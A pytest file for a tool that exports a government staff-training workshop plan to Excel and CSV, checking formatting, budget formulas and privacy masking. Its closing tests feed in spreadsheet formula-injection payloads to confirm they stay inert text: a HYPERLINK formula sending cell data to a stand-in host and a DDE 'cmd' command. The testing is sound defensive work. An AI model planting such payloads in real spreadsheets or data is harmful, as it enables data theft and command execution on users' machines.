"""The Excel workbook of the workshop plan, opened back with openpyxl."""

import re

import numpy as np
import openpyxl
import pandas as pd
import pytest

from analysis.core import privacy
from analysis.core.cells import starts_formula
from analysis.core.codes import TRAINING_FORMS
from analysis.core.params import Costs, Workshops
from analysis.training import workbook as WB
from analysis.training import workshops as W

NIP = re.compile(r"(?<!\d)\d{18}(?!\d)")


def prog(pid, code, form, jp, fee, lo, hi):
    return {"program_id": pid, "competency_code": code, "name": f"Program {form} {code}", "mode": TRAINING_FORMS[form],
            "form": form, "jp": float(jp), "cost_per_participant": float(fee), "min_participants": lo,
            "max_participants": hi, "provider": "Universitas Tadulako"}


@pytest.fixture(scope="module")
def case():
    rng = np.random.default_rng(3)
    rows = []
    for i in range(90):
        nip = f"19{70 + i % 25:02d}0{1 + i % 9}1{i % 9}20{10 + i % 10:02d}0{1 + i % 9}{1 + i % 2}{i:03d}"
        assert len(nip) == 18
        region = ["Palu", "Alak/Timur"][i % 2]  # a '/' that a sheet name may not hold
        cluster = pd.NA if i % 11 == 0 else 1 + i % 2
        for code in ("M.01", "M.02", "T.guru.1", "T.x.1"):
            if rng.random() < 0.6:
                gap = float(rng.choice([0.5, 1.0, 1.5]))
                rows.append({"employee_id": nip, "competency_code": code, "required_level": 3.0, "level": 3 - gap,
                             "gap": gap, "basis": "target" if i % 7 == 0 else "current", "unit_id": f"U{i % 6:04d}",
                             "position_class": "ahli_pertama", "job_family": "guru", "employment_type": "PNS",
                             "region": region, "competency_name_id": f"Nama {code}",
                             "competency_name_en": f"Name {code}", "kind": "manajerial", "cluster": cluster,
                             "cluster_name_id": None if cluster is pd.NA else f"Klaster {cluster}",
                             "cluster_name_en": None if cluster is pd.NA else f"Cluster {cluster}"})
    needs = pd.DataFrame(rows)
    needs["cluster"] = needs["cluster"].astype("Int64")
    needs["employee_id"] = privacy.pseudonymise(needs["employee_id"], b"test-key")
    cat = pd.DataFrame([prog("P01", "M.01", "workshop", 12, 1_450_000, 8, 38),
                        prog("P02", "M.01", "coaching", 8, 750_000, 1, 3),
                        prog("P03", "M.02", "e_learning", 10, 100_000, 1, 500),
                        prog("P04", "T.guru.1", "bimtek", 13, 2_900_000, 12, 28)])
    ws = Workshops(max_cohort=20)
    cands = W.candidate_workshops(needs, cat, ws, Costs())
    plan = W.plan_workshops(cands, 120_000_000, needs)
    assert (plan.selected["mode"] == "klasikal").sum() >= 2 and (plan.selected["mode"] != "klasikal").any()
    assert len(plan.left_out) > 0
    return needs, cands, plan


def _values(wb):
    return {ws.title: [[c.value for c in row] for row in ws.iter_rows()] for ws in wb.worksheets}


def _eval(ws, ref):
    """Value of a cell, evaluating the formulas the workbook uses (products and sums, SUM ranges)."""
    v = ws[ref].value
    if not (isinstance(v, str) and v.startswith("=")):
        return 0.0 if v is None else float(v)
    expr = v[1:]
    m = re.fullmatch(r"SUM\(([A-Z]+)(\d+):([A-Z]+)(\d+)\)", expr)
    if m:
        col, a, b = m.group(1), int(m.group(2)), int(m.group(4))
        return sum(_eval(ws, f"{col}{r}") for r in range(a, b + 1))
    total = 0.0
    for term in expr.split("+"):
        if "-" in term:
            a, b = term.split("-")
            total += _eval(ws, a) - _eval(ws, b)
            continue
        prod = 1.0
        for f in term.split("*"):
            prod *= _eval(ws, f)
        total += prod
    return total


def test_sheets_banner_and_formatting(case, tmp_path):
    needs, cands, plan = case
    path = WB.write_workbook(plan, cands, needs, tmp_path / "plan.xlsx")
    wb = openpyxl.load_workbook(path)
    n_class = int((plan.selected["mode"] == "klasikal").sum())
    assert wb.sheetnames[:2] == ["Ringkasan", "Anggaran"] and wb.sheetnames[-2:] == ["Nonklasikal", "Tidak terjangkau"]
    cohort_sheets = wb.sheetnames[2:-2]
    assert len(cohort_sheets) == n_class
    assert all(len(s) <= 31 and not re.search(r"[\[\]:*?/\\]", s) for s in wb.sheetnames)
    assert len({s.lower() for s in wb.sheetnames}) == len(wb.sheetnames)
    for ws in wb.worksheets:
        assert ws["A1"].value.startswith("TERBATAS / RESTRICTED") and ws["A1"].font.bold
        assert ws.freeze_panes is not None
        header = int(re.match(r"[A-Z]+(\d+)", ws.freeze_panes).group(1)) - 1
        cell = ws.cell(row=header, column=1)
        assert cell.font.bold and cell.fill.fgColor.rgb.endswith("DDEBF7")
        assert ws.column_dimensions["B"].width and ws.column_dimensions["B"].width > 6
    # a roster: the cohort's people, their gaps with one decimal
    first = plan.selected[plan.selected["mode"] == "klasikal"].sort_values("option_id").iloc[0]
    ws = wb[cohort_sheets[0]]
    ids = [c.value for c in ws["B"] if isinstance(c.value, str) and c.value.startswith("ASN-")]
    assert ids == list(first["participants"])
    gap_cells = [r[5] for r in ws.iter_rows(min_row=9) if isinstance(r[0].value, int)]
    assert gap_cells and all(c.number_format == "0.0" for c in gap_cells)
    budget = wb["Anggaran"]
    assert any(c.number_format == WB.RUPIAH for row in budget.iter_rows() for c in row)
    assert wb["Ringkasan"]["B5"].number_format == WB.RUPIAH and wb["Ringkasan"]["B5"].value == plan.budget


def test_budget_formulas_add_up_to_the_plan(case, tmp_path):
    needs, cands, plan = case
    wb = openpyxl.load_workbook(WB.write_workbook(plan, cands, needs, tmp_path / "plan.xlsx"))
    ws = wb["Anggaran"]
    total_row = next(c.row for c in ws["B"] if c.value == "Total")
    assert ws[f"J{total_row}"].value.startswith("=SUM(J")
    assert _eval(ws, f"J{total_row}") == pytest.approx(plan.cost, abs=1.0)
    assert _eval(ws, f"D{total_row}") == plan.selected["n"].sum()
    assert _eval(ws, f"F{total_row}") == pytest.approx(plan.selected["trainer_days"].sum())
    assert _eval(ws, f"H{total_row}") == pytest.approx(plan.selected["venue_days"].sum())
    assert ws[f"J{total_row + 2}"].value == plan.budget
    assert _eval(ws, f"J{total_row + 3}") == pytest.approx(plan.remaining, abs=1.0)
    # each cohort line costs what the plan says
    cohorts = plan.selected[plan.selected["mode"] == "klasikal"].sort_values("option_id")
    for k, cost in enumerate(cohorts["cost"], start=5):
        assert _eval(ws, f"J{k}") == pytest.approx(cost)


def test_no_nip_anywhere_and_left_out_listed(case, tmp_path):
    needs, cands, plan = case
    wb = openpyxl.load_workbook(WB.write_workbook(plan, cands, needs, tmp_path / "plan.xlsx"))
    for ws in wb.worksheets:
        for row in ws.iter_rows(values_only=True):
            assert not any(NIP.search(str(v)) for v in row if v is not None)
    left = wb["Tidak terjangkau"]
    listed = [r for r in left.iter_rows(min_row=5, values_only=True) if isinstance(r[0], int)]
    assert len(listed) == len(plan.left_out)
    assert {r[-1] for r in listed} >= {"Tidak ada program di katalog"}  # T.x.1 has no programme


def test_english_and_circulation_versions(case, tmp_path):
    needs, cands, plan = case
    wb = openpyxl.load_workbook(WB.write_workbook(plan, cands, needs, tmp_path / "en.xlsx", lang="en",
                                                  restricted=False, min_cell=5))
    assert wb.sheetnames == ["Summary", "Budget", "Left out"]  # no sheet names people
    assert all("RESTRICTED" not in str(ws["A1"].value) for ws in wb.worksheets)
    rows = [r for r in wb["Left out"].iter_rows(min_row=5, values_only=True) if r[0]]
    counts = [r[3] for r in rows]
    assert all(c is None or c >= 5 for c in counts) and any(c is None for c in counts)
    assert sum(c for c in counts if c) <= len(plan.left_out)
    assert wb["Summary"]["A1"].value == "Competency development training plan"  # no banner row
    with pytest.raises(ValueError):
        WB.write_workbook(plan, cands, needs, tmp_path / "x.xlsx", lang="fr")


def test_same_input_same_cell_values(case, tmp_path):
    needs, cands, plan = case
    a = _values(openpyxl.load_workbook(WB.write_workbook(plan, cands, needs, tmp_path / "a.xlsx")))
    b = _values(openpyxl.load_workbook(WB.write_workbook(plan, cands, needs, tmp_path / "b.xlsx")))
    assert a == b


def test_empty_plan_still_writes(case, tmp_path):
    needs, cands, _ = case
    plan = W.plan_workshops(cands, 0.0, needs)
    wb = openpyxl.load_workbook(WB.write_workbook(plan, cands, needs, tmp_path / "empty.xlsx"))
    ws = wb["Anggaran"]
    total_row = next(c.row for c in ws["B"] if c.value == "Total")
    assert _eval(ws, f"J{total_row}") == 0


def test_sheet_names_are_excel_safe_and_unique():
    used: set[str] = set()
    names = [WB.sheet_name(n, used) for n in ["A/B:C*D?[E]", "x" * 40, "x" * 40, "Ringkasan", "ringkasan", "'q'"]]
    assert names[0] == "A-B-C-D--E-" and all(len(n) <= 31 for n in names)
    assert len({n.lower() for n in names}) == len(names) and names[5] == "q"


# --- spreadsheet safety (issue 10): text from the data never becomes a live formula -------------

LINK = '=HYPERLINK("http://x.example/?d="&A1,"klik")'
CMD = "=cmd|' /C calc'!A0"
OWN_FORMULA = re.compile(r"=D(\d+)\*E\1\+F\1\*G\1\+H\1\*I\1|=SUM\(([DFHJ])\d+:\2\d+\)|=J\d+-J\d+")
DANGER = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture(scope="module")
def hostile():
    """A small plan whose programme names, providers, regions, units, clusters and competency names
    all begin with a character a spreadsheet reads as a formula."""
    regions = [LINK, "+62 Palu", "@Donggala", "-Sigi"]
    rows = []
    for i in range(48):
        nip = f"19{70 + i % 25:02d}0{1 + i % 9}1{i % 9}20{10 + i % 10:02d}0{1 + i % 9}{1 + i % 2}{i:03d}"
        cluster = 1 + i % 2
        for code in ("M.01", "M.02", "T.x.1"):
            rows.append({"employee_id": nip, "competency_code": code, "required_level": 3.0, "level": 2.0,
                         "gap": 1.0, "basis": "current", "unit_id": f"=U{i % 3}", "position_class": "ahli_pertama",
                         "job_family": "guru", "employment_type": "PNS", "region": regions[i % 4],
                         "competency_name_id": f"-{code}+1", "competency_name_en": f"@{code}",
                         "kind": "manajerial", "cluster": cluster, "cluster_name_id": f"=K{cluster}",
                         "cluster_name_en": f"+K{cluster}"})
    needs = pd.DataFrame(rows)
    needs["cluster"] = needs["cluster"].astype("Int64")
    needs["employee_id"] = privacy.pseudonymise(needs["employee_id"], b"test-key")
    cat = pd.DataFrame([prog("P01", "M.01", "workshop", 12, 1_450_000, 8, 38),
                        prog("P02", "M.02", "e_learning", 10, 100_000, 1, 500)])
    cat["name"] = [CMD, "@SUM(A1:A9)"]
    cat["provider"] = ["-2+3", "\t=1+1"]
    ws = Workshops(max_cohort=20)
    cands = W.candidate_workshops(needs, cat, ws, Costs())
    plan = W.plan_workshops(cands, 120_000_000, needs)
    assert (plan.selected["mode"] == "klasikal").any() and (plan.selected["mode"] != "klasikal").any()
    return needs, cat, cands, plan


def _formulas(wb) -> list[str]:
    return [c.value for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.data_type == "f"]


def _texts(wb) -> list[str]:
    return [c.value for ws in wb.worksheets for row in ws.iter_rows() for c in row if isinstance(c.value, str)]


@pytest.mark.parametrize("lang,restricted", [("id", True), ("en", True), ("en", False)])
def test_workshop_plan_from_hostile_data_has_only_its_own_formulas(hostile, tmp_path, lang, restricted):
    needs, _, cands, plan = hostile
    wb = openpyxl.load_workbook(WB.write_workbook(plan, cands, needs, tmp_path / "plan.xlsx", lang=lang,
                                                  restricted=restricted))
    formulas = _formulas(wb)
    sel = plan.selected
    nonclassroom = sel[sel["mode"] != "klasikal"]
    lines = int((sel["mode"] == "klasikal").sum()) + nonclassroom.groupby(["program_id", "region"]).ngroups
    assert len(formulas) == lines + 5  # a total per cost line, four sums and what is left of the budget
    assert all(OWN_FORMULA.fullmatch(f) for f in formulas), [f for f in formulas if not OWN_FORMULA.fullmatch(f)]
    assert not [c for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.data_type == "e"]
    texts = _texts(wb)
    # the hostile values are there, as the text they are
    assert {LINK, "+62 Palu", "@Donggala", "-Sigi"} <= set(texts)
    if restricted:
        assert {"-2+3", "=U0"} <= set(texts) and any(t.startswith(CMD) or CMD in t for t in texts)
    # and a cell that would start a formula is marked so that editing it in Excel keeps it text
    assert all(c.quotePrefix for ws in wb.worksheets for row in ws.iter_rows() for c in row
               if c.data_type == "s" and starts_formula(c.value))


def test_development_plans_workbook_from_hostile_data_has_no_formula(hostile, tmp_path):
    from analysis.core.params import Params
    from analysis.training import development as D

    needs, cat, _, plan = hostile
    plans = D.development_plans(needs, plan, cat, Params(workshops=Workshops(max_cohort=20)))
    assert plans["region"].isin([LINK, "+62 Palu", "@Donggala", "-Sigi"]).all()
    path = WB.write_table(plans, tmp_path / "development_plans.xlsx", "Rencana", restricted=True,
                          money=("cost", "cost_funded", "cost_unfunded"),
                          one_decimal=("total_gap", "gap_closed", "jp_total"))
    wb = openpyxl.load_workbook(path)
    assert _formulas(wb) == []
    assert LINK in _texts(wb) and any(t.startswith("=U") for t in _texts(wb))


def test_plans_and_tables_csv_from_hostile_data_have_no_formula_cell(hostile, tmp_path):
    """What the run context writes to plans/ and tables/: no cell starts a formula, numbers stay numbers."""
    import csv
    import io

    from analysis.core.params import Params, Privacy
    from analysis.pipeline.context import RunContext
    from analysis.training import development as D

    needs, cat, _, plan = hostile
    params = Params(workshops=Workshops(max_cohort=20), privacy=Privacy(pseudonymise=False))
    ctx = RunContext(tmp_path, params)
    plans = D.development_plans(needs, plan, cat, params)
    paths = [ctx.save_restricted(plans, "development_plans"), ctx.save_restricted(plan.roster(), "workshop_rosters"),
             ctx.save_table(plan.classroom_table(), "workshop_plan"),
             ctx.save_table(plan.left_out_counts(), "left_out_by_reason")]
    for path in paths:
        text = path.read_text(encoding="utf-8")
        for delimiter in (",", ";"):
            for row in csv.reader(io.StringIO(text), delimiter=delimiter):
                bad = [c for c in row if c.lstrip('" ').startswith(DANGER) and not re.fullmatch(r"-?[\d.,e]+", c)]
                assert not bad, (path.name, bad)
    back = pd.read_csv(paths[0])
    assert set(back["region"]) == {"'" + r for r in (LINK, "+62 Palu", "@Donggala", "-Sigi")}
    assert pd.api.types.is_numeric_dtype(back["total_gap"]) and pd.api.types.is_numeric_dtype(back["cost"])
